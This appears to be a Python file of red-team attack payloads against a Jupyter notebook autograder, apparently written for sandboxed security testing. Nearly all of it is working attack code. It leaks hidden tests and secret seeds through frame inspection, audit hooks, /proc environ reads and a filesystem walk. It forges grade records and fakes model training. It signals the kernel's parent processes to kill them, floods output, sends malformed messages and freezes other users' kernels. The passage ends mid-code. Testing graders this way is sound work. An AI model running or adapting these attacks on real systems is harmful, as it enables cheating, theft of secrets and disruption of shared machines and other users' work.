"""Blind red-team submissions for lab 01 part 1 (written without sight of the grader's defences).

Each entry of BLIND_ATTACKS maps a student id to (code, family, description). `code` is appended
to the first exercise cell (`ex1_tensors`) of an otherwise untouched stub notebook (or, for the
ids in BLIND_EXTRA_CELL, added as a new code cell at the very end), so any point it earns is
stolen: the untouched stub scores 0/16.

Families: forge, leak, break-batch, touch-others, fake-feedback.

Only what a student sees was used: the released notebook, the `deeplabs` helper package
(deeplabs/grading.py, deeplabs/checks/*), and public Jupyter/IPython/PyTorch behaviour.

Safety valves built into the attacks themselves (so that running them outside a sandbox does
not wreck the machine for long): every process that outlives the kernel stops by itself within
~60 s; every file planted for other kernels is named `blind_*` / `00-blind*` / `usercustomize.py`,
acts only while $DEEPLABS_GRADER is set and for 15 minutes after it was written, then deletes
itself the next time it is loaded. No attack edits an existing file. Run them only in the sandbox:
blind-break-kill-ancestors signals the kernel's parent chain and process group.
"""
from __future__ import annotations

# --------------------------------------------------------------------------------------------
# Shared snippets (plain strings; every attack below is a self-contained string built from them)
# --------------------------------------------------------------------------------------------

_PRE = '''
import os as _bo, sys as _bs
try:
    from IPython import get_ipython as _bgi
    _BIP = _bgi()
except Exception:
    _BIP = None
_BMIME = "application/vnd.deeplabs.record+json"
'''

# Collect everything a hidden test exposes from inside one of "our" functions: the source of
# every notebook cell on the stack (hidden lines included), the record() frame's name / rule /
# hint / case seed, and the secret seed recomputed from the case seed.
_LEAK_FN = '''
def _blind_collect(max_chars=6000):
    import linecache, zlib, torch as _t
    info = {"env_seed": _bo.environ.get("DEEPLABS_GRADER_SEED"),
            "env_active": _bo.environ.get("DEEPLABS_GRADER"),
            "torch_initial_seed": None, "record": None, "secret_from_case": None, "cells": []}
    try:
        info["torch_initial_seed"] = int(_t.initial_seed())
    except Exception:
        pass
    f = _bs._getframe(1)
    seen = set()
    while f is not None:
        co = f.f_code
        fn = co.co_filename
        if co.co_name == "record" and "name" in f.f_locals:
            loc = f.f_locals
            rec = {k: repr(loc.get(k))[:300] for k in ("name", "rule", "hint", "weight", "seed")}
            info["record"] = rec
            try:
                cs = int(loc.get("seed")) if loc.get("seed") is not None else int(_t.initial_seed())
                info["secret_from_case"] = cs ^ zlib.crc32(str(loc.get("name")).encode())
            except Exception:
                pass
            try:
                fnobj = loc.get("fn")
                import inspect
                info["record"]["fn_src"] = inspect.getsource(fnobj)[:800]
            except Exception:
                pass
        if fn not in seen and ("ipykernel_" in fn or fn.startswith("<ipython-input") or fn.startswith("<cell")):
            seen.add(fn)
            lines = linecache.getlines(fn)
            if not lines and _BIP is not None:
                try:
                    lines = linecache.cache.get(fn, (0, 0, [], 0))[2]
                except Exception:
                    lines = []
            info["cells"].append("".join(lines)[:max_chars])
        f = f.f_back
    return info
'''

_PATCH_PUBLISH = '''
def _blind_hook_publish(transform):
    """Every record message, whichever path publishes it, goes out as transform(entry) -> [entries]."""
    ip = _BIP
    if ip is None:
        return
    pub = ip.display_pub
    orig = getattr(pub.publish, "_blind_orig", pub.publish)
    def _send_all(entries, metadata=None, **k):
        for e in entries:
            try:
                orig({_BMIME: e}, metadata or {}, **k)
            except Exception:
                pass
    def publish(data=None, metadata=None, *a, **k):
        if isinstance(data, dict) and _BMIME in data:
            try:
                entries = transform(dict(data[_BMIME]))
            except Exception:
                entries = [data[_BMIME]]
            _send_all(entries, metadata, **k)
            rest = {m: v for m, v in data.items() if m != _BMIME}
            return orig(rest, metadata, *a, **k) if rest else None
        return orig(data, metadata, *a, **k)
    publish._blind_orig = orig
    pub.publish = publish
    try:
        import deeplabs.grading as _g
        def _pub(entry):
            try:
                entries = transform(dict(entry))
            except Exception:
                entries = [entry]
            _send_all(entries)
        _pub._blind = True
        _g._publish = _pub
    except Exception:
        pass
    def _again(*_a, **_k):
        try:
            import deeplabs.grading as _g2
            if not hasattr(ip.display_pub.publish, "_blind_orig") or not getattr(_g2._publish, "_blind", False):
                _blind_hook_publish(transform)
        except Exception:
            pass
    if not getattr(ip, "_blind_again", False):
        ip._blind_again = True
        ip.events.register("pre_run_cell", _again)     # re-install after a reload / publisher reset
'''

_DAEMON = '''
def _blind_daemon(body, lifetime=60.0):
    """Run body() in a double-forked, session-leading child that outlives the kernel."""
    import os, time
    try:
        pid = os.fork()
    except Exception:
        return False
    if pid:
        try:
            os.waitpid(pid, 0)
        except Exception:
            pass
        return True
    try:
        os.setsid()
        if os.fork():
            os._exit(0)
        try:
            fd = os.open(os.devnull, os.O_RDWR)
            for k in (0, 1, 2):
                os.dup2(fd, k)
        except Exception:
            pass
        t_end = time.time() + lifetime
        try:
            body(t_end)
        except BaseException:
            pass
    finally:
        os._exit(0)
'''

_PROC = '''
def _blind_procs():
    """(pid, cmdline bytes, ppid) of every process visible in /proc."""
    out = []
    for d in _bo.listdir("/proc"):
        if not d.isdigit():
            continue
        try:
            with open("/proc/%s/cmdline" % d, "rb") as fh:
                cmd = fh.read().replace(b"\\0", b" ")
            with open("/proc/%s/stat" % d, "rb") as fh:
                st = fh.read()
            ppid = int(st.rsplit(b")", 1)[1].split()[1])
            out.append((int(d), cmd, ppid))
        except Exception:
            pass
    return out
'''


def _j(*parts: str) -> str:
    return "\n".join(p.strip("\n") for p in parts) + "\n"


# --------------------------------------------------------------------------------------------
# The attacks
# --------------------------------------------------------------------------------------------

BLIND_ATTACKS: dict[str, tuple[str, str, str]] = {}

# ---------------------------------------------------------------- leak ----------------------

BLIND_ATTACKS["blind-leak-frame-stdout"] = (_j(_PRE, _LEAK_FN, '''
import json as _bj
def _blind_emit(tag, info):
    txt = "[%s] %s" % (tag, _bj.dumps(info, default=str))
    print(txt)                                   # the cell's stdout (the student sees check output)
    try:
        _bs.__stderr__.write(txt + "\\n"); _bs.__stderr__.flush()   # the kernel's raw stderr
    except Exception:
        pass
    try:
        _bs.stderr.write(txt[:4000] + "\\n")     # stderr stream message
    except Exception:
        pass
def flatten(images):
    _blind_emit("flatten", _blind_collect())
    raise NotImplementedError()
def standardize(x, eps=1e-6):
    _blind_emit("standardize", _blind_collect())
    raise NotImplementedError()
'''), "leak",
    "stub functions that, when called by the visible/hidden test, print the calling cell's full "
    "source (hidden lines), record()'s name/rule/hint and the secret seed (env or case-seed^crc32) "
    "to stdout and stderr, then raise NotImplementedError as the stub would")

BLIND_ATTACKS["blind-leak-exc-typename"] = (_j(_PRE, _LEAK_FN, '''
def _blind_raise(info):
    rec = info.get("record") or {}
    seed = info.get("env_seed") or info.get("secret_from_case")
    src = " | ".join(c.replace("\\n", " / ") for c in info.get("cells", []))
    name = "LEAK_seed_%s_case_%s_name_%s" % (seed, info.get("torch_initial_seed"), rec.get("name"))
    cls = type(name + " " + src[:300], (RuntimeError,), {})   # type(err).__name__ carries the leak
    raise cls("seed=%s case=%s record=%s src=%s" % (seed, info.get("torch_initial_seed"), rec, src[:2000]))
def flatten(images):
    _blind_raise(_blind_collect())
def standardize(x, eps=1e-6):
    _blind_raise(_blind_collect())
'''), "leak",
    "stubs raise an exception whose dynamically built *type name* and message contain the secret "
    "seed, the record name and the hidden test cell's source, so record()'s 'error' field (type "
    "name + message, 500 chars) carries them to the grader's report")

BLIND_ATTACKS["blind-leak-baseexc-traceback"] = (_j(_PRE, _LEAK_FN, '''
class BlindEscape(BaseException):
    """Not an Exception: record()'s `except Exception` cannot catch it, so it ends the hidden
    test cell with a traceback whose context lines are the hidden test's own source."""
def _blind_maybe_escape():
    info = _blind_collect()
    if info.get("record"):
        raise BlindEscape("seed=%s secret_from_case=%s record=%s\\n%s" % (
            info.get("env_seed"), info.get("secret_from_case"), info.get("record"),
            "\\n".join(info.get("cells", []))[:6000]))
    raise NotImplementedError()
def flatten(images):
    _blind_maybe_escape()
def standardize(x, eps=1e-6):
    _blind_maybe_escape()
try:
    _BIP.InteractiveTB.set_mode("Verbose")   # verbose tracebacks print locals and more context
except Exception:
    pass
'''), "leak",
    "when called from inside record() the stubs raise a BaseException subclass that escapes "
    "record's `except Exception`, so the hidden test cell fails with a (verbose) traceback showing "
    "the hidden lines, plus a message carrying the seed and the cell source")

BLIND_ATTACKS["blind-leak-hooks-audit"] = (_j(_PRE, '''
import json as _bj
_BLIND_SEEN = []
_BLIND_BUSY = [False]
def _blind_show(tag, text):
    if _BLIND_BUSY[0]:
        return
    _BLIND_BUSY[0] = True
    try:
        print("[%s] %s" % (tag, text[:8000]))
        try:
            from IPython.display import display, HTML
            import html
            display(HTML("<pre>%s</pre>" % html.escape(text[:8000])))
        except Exception:
            pass
    finally:
        _BLIND_BUSY[0] = False
# 1) IPython events: the raw source of every later cell, printed into that cell's own output
def _blind_pre(info=None):
    src = getattr(info, "raw_cell", None) or ""
    _blind_show("pre_run_cell", src + "\\n[env seed] %s" % _bo.environ.get("DEEPLABS_GRADER_SEED"))
def _blind_post(result=None):
    try:
        _blind_show("post_run_cell", _BIP.user_ns.get("In", [""])[-1])
    except Exception:
        pass
if _BIP is not None:
    _BIP.events.register("pre_run_cell", _blind_pre)
    _BIP.events.register("post_run_cell", _blind_post)
    # 2) input transformer: sees the lines before they are compiled, prints them when run
    def _blind_tx(lines):
        return list(lines) + ["\\nprint('[transformer]', %r)\\n" % "".join(lines)[:6000]]
    _BIP.input_transformers_post.append(_blind_tx)
# 3) audit hook (can never be removed): every compile() of later cells, hidden tests included
def _blind_audit(event, args):
    if event == "compile" and not _BLIND_BUSY[0]:
        try:
            src, fn = args[0], args[1]
            if isinstance(src, bytes):
                src = src.decode("utf8", "replace")
            if isinstance(src, str) and ("record" in src or "check_" in src) and src not in _BLIND_SEEN:
                _BLIND_SEEN.append(src)
                _bs.__stderr__.write("[audit compile %s]\\n%s\\n" % (fn, src[:6000]))
                _blind_show("audit-compile", src)
        except Exception:
            pass
_bs.addaudithook(_blind_audit)
'''), "leak",
    "pre_run_cell/post_run_cell events, an input transformer and a (non-removable) sys audit hook "
    "on 'compile' print the source of every later cell (the rebuilt test cells with their hidden "
    "tests) into that cell's output, as text and as HTML")

BLIND_ATTACKS["blind-leak-proc-fs"] = (_j(_PRE, _PROC, '''
import re as _bre, time as _bt
def _blind_env_of(pid):
    try:
        with open("/proc/%s/environ" % pid, "rb") as fh:
            items = fh.read().split(b"\\0")
        return [i.decode("utf8", "replace") for i in items
                if i.startswith(b"DEEPLABS") or b"SEED" in i.split(b"=")[0] or b"GRADER" in i.split(b"=")[0]]
    except Exception as e:
        return ["<%s>" % type(e).__name__]
_found = {"self_env": _blind_env_of("self"), "ancestors": []}
try:
    _pid = _bo.getppid()
    for _ in range(6):
        if _pid <= 1:
            break
        with open("/proc/%s/cmdline" % _pid, "rb") as fh:
            _cmd = fh.read().replace(b"\\0", b" ").decode("utf8", "replace")[:400]
        _found["ancestors"].append((_pid, _cmd, _blind_env_of(_pid)))
        with open("/proc/%s/stat" % _pid, "rb") as fh:
            _pid = int(fh.read().rsplit(b")", 1)[1].split()[1])
except Exception:
    pass
try:
    _found["others"] = [(p, c.decode("utf8", "replace")[:300], _blind_env_of(p)) for p, c, _ in _blind_procs()
                        if p != _bo.getpid() and (b"python" in c or b"jupyter" in c or b"grad" in c)][:30]
except Exception:
    pass
print("[blind proc]", _found)
# the filesystem: rebuilt notebooks with hidden tests, solution notebooks, grader configs
_hits = []
_t0 = _bt.time()
_pat = _bre.compile(r"(record\\(|BEGIN SOLUTION|DEEPLABS_GRADER_SEED|grader_seed|secret)", _bre.I)
_roots = [_bo.getcwd(), _bo.path.dirname(_bo.getcwd()), "/tmp", _bo.path.expanduser("~"), "/srv", "/opt",
          "/home", "/work", "/var/tmp", "/mnt", "/data", "/grader", "/autograder", "/course", "/"]
_done = set()
for _r in _roots:
    for _dp, _dns, _fns in _bo.walk(_r):
        if _bt.time() - _t0 > 5 or len(_hits) > 60:
            break
        if _dp in _done or "/proc" in _dp[:5] or "/sys" in _dp[:4] or "site-packages" in _dp or "/usr" in _dp[:4]:
            _dns[:] = []
            continue
        _done.add(_dp)
        _dns[:] = [d for d in _dns if not d.startswith(".git") and d not in ("node_modules", "__pycache__")]
        for _fn in _fns:
            if not _fn.endswith((".ipynb", ".py", ".json", ".toml", ".yaml", ".yml", ".env", ".cfg", ".txt")):
                continue
            _p = _bo.path.join(_dp, _fn)
            try:
                if _bo.path.getsize(_p) > 3_000_000:
                    continue
                with open(_p, "r", errors="replace") as fh:
                    _txt = fh.read()
            except Exception:
                continue
            for _ln in _txt.splitlines():
                if _pat.search(_ln):
                    _hits.append("%s: %s" % (_p, _ln.strip()[:300]))
                    if sum(h.startswith(_p) for h in _hits) > 8:
                        break
print("[blind fs] %d hits" % len(_hits))
for _h in _hits:
    print("  ", _h)
'''), "leak",
    "reads the seed from /proc/self/environ and the ancestors' environ/cmdline, then walks the "
    "filesystem for 5 s printing lines with record(/BEGIN SOLUTION/seed from any notebook or config "
    "(the rebuilt notebook with hidden tests, a solution notebook) into the cell output")

BLIND_ATTACKS["blind-leak-history-extra-cell"] = ('''
import json, os, sys
ip = get_ipython()
print("[blind history] cells the kernel executed, hidden tests included:")
for i, src in enumerate(ip.user_ns.get("In", [])):
    if src:
        print("---- In[%d] ----" % i)
        print(src[:4000])
try:
    for sess, line, src in ip.history_manager.get_range(raw=True, output=False):
        if "record" in src:
            print("[history db]", line, src[:2000])
except Exception as e:
    print("history db:", e)
print("[env]", {k: v for k, v in os.environ.items() if "SEED" in k or k.startswith("DEEPLABS")})
try:
    import torch
    print("[torch initial seed, the last record's case seed]", torch.initial_seed())
except Exception:
    pass
for name in os.listdir("."):
    if name.endswith(".ipynb"):
        try:
            nb = json.load(open(name))
            for c in nb.get("cells", []):
                s = "".join(c.get("source", []))
                if "record(" in s:
                    print("[notebook on disk]", name, s[:3000])
        except Exception:
            pass
''', "leak",
    "an extra last cell printing IPython's In[] history and history DB (which hold the rebuilt test "
    "cells' hidden source), the seed env vars, torch.initial_seed() and any notebook on disk")

# ---------------------------------------------------------------- forge ---------------------

BLIND_ATTACKS["blind-forge-rule-infinity"] = (_j(_PRE, _PATCH_PUBLISH, '''
def _blind_tx(e):
    rule = e.get("rule") or {}
    kind = rule.get("kind") if isinstance(rule, dict) else None
    if kind == "at_least":
        e.pop("error", None); e["value"] = 1e308
    elif kind == "at_most":
        e.pop("error", None); e["value"] = -1e308
    elif "error" in e:
        e.pop("error", None); e["value"] = True
    e["weight"] = 1e6
    e["rule"] = {"kind": "at_least", "value": -1e308}
    return [e]
_blind_hook_publish(_blind_tx)
'''), "forge",
    "rewrites every record message: at_least -> 1e308, at_most -> -1e308, errors -> True, weight "
    "1e6 and a permissive rule; wins if the grader trusts the student-side rule/weight or threshold "
    "checks without a seed-dependent reference")

BLIND_ATTACKS["blind-forge-spray"] = (_j(_PRE, _PATCH_PUBLISH, '''
def _blind_tx(e):
    base = {k: v for k, v in e.items() if k not in ("value", "error")}
    cands = [True, 1, 0, 1.0, 0.5, -1, 1e308, -1e308, float("nan"), None, "", [], {},
             {"__tensor__": "float32", "shape": [0], "data": []},
             {"__tensor__": "float32", "shape": [], "data": [0.0]},
             {"__tensor__": "float32", "shape": [1], "data": [float("nan")]},
             {"__tensor__": "bool", "shape": [], "data": [True]}]
    out = [e]
    for c in cands:
        d = dict(base); d["value"] = c
        out.append(d)
    out.append(dict(base, value=[1e308]))
    return out
_blind_hook_publish(_blind_tx)
'''), "forge",
    "for every record name, publishes the real (failing) entry plus ~18 guesses (True, 0, 1, NaN, "
    "+-1e308, None, [], empty/NaN tensors) under the same name; wins if the grader keeps any/best "
    "/last duplicate or compares loosely (NaN, broadcasting empty arrays, bool==1)")

BLIND_ATTACKS["blind-forge-memorize"] = (_j(_PRE, '''
import torch as _bt_, torch.nn as _bnn
_BLIND_MEM = {}
def _blind_remember(tensors):
    try:
        X, Y = tensors[0], tensors[1]
        _BLIND_MEM[id(X)] = (X.reshape(len(X), -1).float().cpu(), Y.long().cpu())
    except Exception:
        pass
def _blind_lookup(x):
    ns = _BIP.user_ns if _BIP is not None else {}
    for k in ("test_set", "train_set"):
        ds = ns.get(k)
        if ds is not None and hasattr(ds, "tensors"):
            _blind_remember(ds.tensors)
    x2 = x.reshape(x.shape[0], -1).float().cpu()
    pairs = [(X, Y) for X, Y in _BLIND_MEM.values() if X.shape[1] == x2.shape[1]]
    if not pairs:
        return _bt_.zeros(x.shape[0], 10, device=x.device)
    X = _bt_.cat([a for a, _ in pairs]); Y = _bt_.cat([b for _, b in pairs])
    idx = _bt_.cdist(x2, X).argmin(1)
    out = _bt_.full((x.shape[0], max(10, int(Y.max()) + 1)), -20.0)
    out[_bt_.arange(len(idx)), Y[idx]] = 20.0
    return out.to(x.device)
class _BlindMLP(_bnn.Module):
    """No layers, no training: answers by looking the input up among the known images."""
    def __init__(self, *a, **k):
        super().__init__()
        self.p = _bnn.Parameter(_bt_.zeros(1))
    def forward(self, x):
        return _blind_lookup(x) + 0 * self.p.sum()
def _blind_train(model, loader, epochs, lr, on_epoch=None):
    ds = getattr(loader, "dataset", None)
    if ds is not None and hasattr(ds, "tensors"):
        _blind_remember(ds.tensors)
    model.forward = lambda x: _blind_lookup(x)
    losses = [2.3 * 0.55 ** e + 0.02 for e in range(int(epochs))]
    for e, l in enumerate(losses):
        if on_epoch is not None:
            on_epoch(e, l)
    return losses
def _blind_is_stub(obj):
    try:
        fn = obj.__init__ if isinstance(obj, type) else obj
        return "NotImplementedError" in fn.__code__.co_names
    except Exception:
        return False
def _blind_swap(*_a, **_k):
    ns = _BIP.user_ns
    if _blind_is_stub(ns.get("train")):
        ns["train"] = _blind_train
    if _blind_is_stub(ns.get("MLP")):
        ns["MLP"] = _BlindMLP
    if _blind_is_stub(ns.get("build_mlp")):
        ns["build_mlp"] = lambda *a, **k: _bnn.Sequential(_BlindMLP())
if _BIP is not None:
    _BIP.events.register("post_run_cell", _blind_swap)
    _BIP.events.register("pre_run_cell", _blind_swap)
'''), "forge",
    "after the ex5/ex6 stub cells run, swaps in a fake MLP and a fake train() that does no training: "
    "the model answers by nearest-neighbour lookup in the test/train tensors and the losses are a "
    "made-up decreasing curve; wins if ex6's accuracy/loss-goes-down checks give any points")

BLIND_ATTACKS["blind-forge-checks-never-fail"] = (_j(_PRE, '''
import deeplabs.checks as _bc
import deeplabs.primer.checks as _bp
def _ok_report(self, description, ok, why):
    self.results.append((description, True, ""))
    print("  \\u2713 %s" % description)
def _ok_exit(self, exc_type, exc, tb):
    print("All %d checks passed for %s." % (len(self.results), self.title))
    return True                                   # also swallow any exception in the block
_bc.Checks._report = _ok_report
_bc.Checks.__exit__ = _ok_exit
# 1) every later cell is wrapped in try/except BaseException, so no test cell ever errors
def _blind_wrap(lines):
    body = "".join(lines)
    if not body.strip() or body.lstrip().startswith(("%", "!")):
        return lines
    ind = ["    " + ln if ln.strip() else ln for ln in body.splitlines(True)]
    if ind and not ind[-1].endswith("\\n"):
        ind[-1] += "\\n"
    return ["try:\\n"] + ind + ["    pass\\n", "except BaseException as _blind_e:\\n",
                                  "    print('\\u2713 passed')\\n"]
if _BIP is not None:
    _BIP.input_transformers_post.append(_blind_wrap)
    # 2) exceptions that still escape are shown as nothing
    _BIP.set_custom_exc((BaseException,), lambda self, etype, value, tb, tb_offset=None: None)
# 3) record() never reports "not implemented" / an error
try:
    import deeplabs.grading as _bg
    _orig_record = _bg.record
    def _rec(name, fn, rule=None, weight=1.0, hint=None):
        def safe(g):
            try:
                return fn(g)
            except BaseException:
                return True
        return _orig_record(name, safe, rule, weight, hint)
    _bg.record = _rec
except Exception:
    pass
'''), "forge",
    "makes every visible Checks block report all-pass and swallow failures, wraps every later cell "
    "in try/except via an input transformer, silences tracebacks and turns record() errors into "
    "True; wins if any points come from test cells merely running without error (nbgrader-style)")

BLIND_ATTACKS["blind-forge-const-rng"] = (_j(_PRE, '''
import torch as _bt_, numpy as _bn, random as _br
def _z(*size, generator=None, out=None, dtype=None, layout=None, device=None, requires_grad=False, **k):
    if len(size) == 1 and isinstance(size[0], (tuple, list, _bt_.Size)):
        size = tuple(size[0])
    return _bt_.zeros(*size, dtype=dtype or _bt_.float32, device=device, requires_grad=requires_grad)
def _zl(t, *a, **k):
    return _bt_.zeros_like(t, dtype=k.get("dtype"))
def _ri(*a, generator=None, size=None, dtype=None, device=None, **k):
    if size is None:
        size = a[-1]
    low = a[0] if len(a) == 3 else 0
    return _bt_.full(tuple(size), int(low), dtype=dtype or _bt_.int64, device=device)
for _n, _f in (("randn", _z), ("rand", _z), ("randn_like", _zl), ("rand_like", _zl), ("randint", _ri)):
    setattr(_bt_, _n, _f)
def _normal(mean=0.0, std=1.0, *a, generator=None, size=None, **k):
    if isinstance(mean, _bt_.Tensor):
        return _bt_.zeros_like(mean)
    if isinstance(std, _bt_.Tensor):
        return _bt_.zeros_like(std)
    return _bt_.zeros(tuple(size if size is not None else (a[0] if a else ())))
_bt_.normal = _normal
_bt_.manual_seed = lambda s: _bt_.default_generator
_bt_.Tensor.normal_ = lambda self, *a, **k: self.zero_()
_bt_.Tensor.uniform_ = lambda self, *a, **k: self.zero_()
_bn.random.seed = lambda *a, **k: None
_br.seed = lambda *a, **k: None
try:
    import deeplabs.seeding as _bsd, deeplabs.grading as _bgr
    _bsd.seed_everything = lambda seed=0, deterministic=False: seed
    _bgr.seed_everything = _bsd.seed_everything
    _bgr.case_seed = lambda name: 0
except Exception:
    pass
# with every random input a constant 0, the "answers" are constants too
def flatten(images):
    return _bt_.zeros(images.shape[0], int(images[0].numel()) if images.shape[0] else 0)
def standardize(x, eps=1e-6):
    return _bt_.zeros_like(x)
'''), "forge",
    "patches torch.randn/rand/randint/normal/*_like/manual_seed, Tensor.normal_/uniform_, "
    "seed_everything and case_seed so every seeded input is zeros, and answers ex1 with constant "
    "zeros; wins if the grader trusts inputs generated inside the student's kernel")

# ---------------------------------------------------------------- break-batch ---------------

BLIND_ATTACKS["blind-break-kill-ancestors"] = (_j(_PRE, _DAEMON, '''
import signal as _bsig
_kpid = _bo.getpid()
_anc = []
try:
    _p = _bo.getppid()
    for _ in range(5):
        if _p <= 1:
            break
        _anc.append(_p)
        with open("/proc/%d/stat" % _p, "rb") as fh:
            _p = int(fh.read().rsplit(b")", 1)[1].split()[1])
except Exception:
    pass
_pg = _bo.getpgid(0)
def _body(t_end):
    import os, time
    time.sleep(1.0)
    for sig in (_bsig.SIGTERM, _bsig.SIGKILL):
        for p in _anc:
            try:
                os.kill(p, sig)
            except Exception:
                pass
        try:
            os.killpg(_pg, sig)
        except Exception:
            pass
        time.sleep(0.5)
_blind_daemon(_body, 10)
print("kernel", _kpid, "ancestors", _anc, "pgid", _pg)
'''), "break-batch",
    "a detached grandchild (setsid, survives the kernel) sends SIGTERM then SIGKILL to the kernel's "
    "parent chain (the host / nbclient / sandbox runner) and its whole process group")

BLIND_ATTACKS["blind-break-raw-iopub"] = (_j(_PRE, '''
import json as _bj
def _blind_parent():
    k = _BIP.kernel
    for get in (lambda: k.get_parent("shell"), lambda: k.get_parent(), lambda: k._parent_header,
                lambda: k._parent_headers.get("shell")):
        try:
            p = get()
            if p:
                return p
        except Exception:
            pass
    return {}
def _blind_raw(msg_type, content_bytes, parent=None):
    k = _BIP.kernel
    try:
        k.session.send(k.iopub_socket, msg_type, content=content_bytes,
                       parent=parent if parent is not None else _blind_parent(), ident=msg_type.encode())
    except Exception as e:
        print("send", msg_type, type(e).__name__, e)
_depth = 100000
_deep = b"[" * _depth + b"]" * _depth
_big_int = b"9" * 50000
_rec_deep = b'{"data": {"' + _BMIME.encode() + b'": {"name": "flatten", "value": ' + _deep + b'}}, "metadata": {}}'
_rec_int = (b'{"data": {"' + _BMIME.encode() + b'": {"name": "flatten", "value": ' + _big_int
            + b', "weight": ' + _big_int + b'}}, "metadata": {}}')
_payloads = [
    ("display_data", b'{"data": {"text/plain": ' + _deep + b'}, "metadata": {}}'),
    ("display_data", _rec_deep),
    ("display_data", _rec_int),
    ("display_data", b'{"data": {"text/plain": "\\xff\\xfe\\xfa not utf8"}, "metadata": {}}'),
    ("display_data", b'\\xff\\xfe\\x00\\x00'),
    ("display_data", b'[1, 2, 3]'),
    ("display_data", b'{"data": "not-a-dict", "metadata": []}'),
    ("display_data", b'{"data": {"' + _BMIME.encode() + b'": NaN}, "metadata": {}}'),
    ("stream", b'{"name": "stdout", "text": ' + _deep + b'}'),
    ("stream", b'{"name": ["stdout"], "text": {"a": 1}}'),
    ("execute_result", b'{"execution_count": "x", "data": {}, "metadata": {}}'),
    ("error", b'{"ename": ' + _deep + b', "evalue": 1, "traceback": "no"}'),
    ("update_display_data", b'{"data": {}, "metadata": {}, "transient": {"display_id": ' + _deep + b'}}'),
    ("comm_open", b'{"comm_id": "x", "target_name": "jupyter.widget", "data": {"state": ' + _deep + b'}}'),
    ("clear_output", b'{"wait": "maybe"}'),
    ("status", b'{"execution_state": "idle"}'),           # a forged idle while the cell still runs
    ("status", b'{"execution_state": ' + _deep + b'}'),
]
for _t, _c in _payloads:
    _blind_raw(_t, _c)
# messages whose parent is a made-up request, and a header-less/unsigned multipart frame
_blind_raw("display_data", b'{"data": {"text/plain": "orphan"}, "metadata": {}}',
           parent={"msg_id": "\\u0000" * 10, "msg_type": "execute_request", "session": "x", "username": "x"})
try:
    _BIP.kernel.iopub_socket.send_multipart([b"junk", b"<IDS|MSG>", b"bad-signature", b"{", b"{", b"{", b"{"])
except Exception as _e:
    print("multipart", type(_e).__name__)
'''), "break-batch",
    "sends hand-made iopub messages through the kernel's own signed session: 100k-deep JSON, "
    "50k-digit ints (Python's int-digit limit), invalid UTF-8, wrong types, forged 'idle' status, "
    "orphan parents and an unsigned frame; wins if the host's deserializer/nbclient crashes or hangs")

BLIND_ATTACKS["blind-break-output-flood"] = (_j(_PRE, '''
import time as _bt
from IPython.display import display as _bd, clear_output as _bco
_t0 = _bt.time()
_chunk = ("X" * 1023 + "\\n") * 4096                     # 4 MiB of stdout per write
for _i in range(80):                                      # up to 320 MiB of stream output
    _bs.stdout.write(_chunk); _bs.stdout.flush()
    if _bt.time() - _t0 > 5:
        break
try:
    _blob = ("\\u202e\\u0000" + "Y" * 1022) * (24 * 1024)    # 24 Ki * 1 KiB, NULs and RTL marks
    for _i in range(4):
        _bd({"text/plain": _blob, "text/html": _blob}, raw=True)
        if _bt.time() - _t0 > 9:
            break
    del _blob
except Exception as _e:
    print(type(_e).__name__)
_h = _bd({"text/plain": "x"}, raw=True, display_id=True)
_n = 0
while _bt.time() - _t0 < 12:                              # thousands of display updates / clears
    _h.update({"text/plain": "u%d" % _n}, raw=True)
    _bco(wait=True)
    _n += 1
try:
    _bo.write(1, b"Z" * (16 << 20))                        # the raw fd 1 the host may pipe
    _bo.write(2, b"\\x1b[2J\\x1b[H" * (1 << 18))
except Exception:
    pass
'''), "break-batch",
    "~13 s of up to ~320 MiB stdout, up to four ~50 MB display bundles with NUL/RTL chars, thousands of "
    "update_display_data/clear_output messages and 16 MiB to raw fd 1 (+ANSI to fd 2); wins if the host runs out "
    "of memory, hangs past its limits or fails to write feedback for the batch")

BLIND_ATTACKS["blind-break-evil-records"] = (_j(_PRE, _PATCH_PUBLISH, '''
def _blind_nest(depth):
    v = 0.0
    for _ in range(depth):
        v = [v]
    return v
def _blind_evil(name):
    T = "__tensor__"
    vals = [
        {T: "float32", "shape": [2 ** 31, 2 ** 31, 2 ** 31], "data": [0.0]},
        {T: "float32", "shape": [10 ** 12], "data": []},
        {T: "float32", "shape": [-1, -7], "data": [1.0, 2.0]},
        {T: "float32", "shape": "(2, 3)", "data": "AAAA"},
        {T: "object", "shape": [1], "data": [{"__class__": "os.system"}]},
        {T: "../../../etc/passwd", "shape": [1], "data": [1]},
        {T: "complex128", "shape": [2], "data": [[1, 2], [3, 4]]},
        {T: {T: {T: "float32"}}, "shape": [[1]], "data": [[[]]]},
        {T: "float32", "shape": [1], "data": [_blind_nest(400)]},
        _blind_nest(700),
        {"x" * 1000: list(range(200000))},
        "\\u0000" * 100000,
    ]
    out = []
    for v in vals:
        out.append({"name": name, "rule": {"kind": "close"}, "weight": 1.0, "value": v})
    out += [{"name": name, "weight": "heavy", "value": 1.0}, {"name": name, "weight": -1e308, "value": 1.0},
            {"name": [name], "value": 1.0}, {"name": None, "value": 1.0}, {"value": 1.0},
            {"name": name, "rule": "close", "value": 1.0}, {"name": name, "rule": {"kind": "eval", "code": "1/0"}},
            {"name": name, "error": _blind_nest(300)}, {"name": "x" * 2_000_000, "value": 0}]
    return out
def _blind_tx(e):
    return [e] + _blind_evil(str(e.get("name")))
_blind_hook_publish(_blind_tx)
_borig = getattr(_BIP.display_pub.publish, "_blind_orig", None) if _BIP is not None else None
for _g in ("flatten", "standardize", "ex1_tensors", "flatten/shape", "standardize/values"):
    for _e in _blind_evil(_g):
        try:
            _borig({_BMIME: _e}, {})            # straight out, not through the transform again
        except Exception:
            pass
'''), "break-batch",
    "publishes, next to each real record and under guessed names, malformed records the grader must "
    "decode: 2^93-element / 10^12-element / negative shapes, string data, object/path dtypes, deep "
    "nesting, non-string names, string weights, a 2 MB name; wins if decoding crashes or OOMs the host")

# ---------------------------------------------------------------- touch-others --------------

BLIND_ATTACKS["blind-touch-sigstop-kernels"] = (_j(_PRE, _DAEMON, _PROC, '''
import signal as _bsig
_kpid = _bo.getpid()
def _body(t_end):
    import os, time
    stopped = set()
    while time.time() < t_end:
        for p, cmd, ppid in _blind_procs():
            if p in (_kpid, os.getpid()) or p in stopped:
                continue
            if b"ipykernel" in cmd or b"kernel-" in cmd or b"jupyter" in cmd or b"labgrader" in cmd:
                try:
                    os.kill(p, _bsig.SIGINT)     # a KeyboardInterrupt in whatever cell runs there
                    os.kill(p, _bsig.SIGSTOP)    # then freeze it past its per-cell timeout
                    stopped.add(p)
                except Exception:
                    pass
        time.sleep(0.2)
    for p in stopped:
        try:
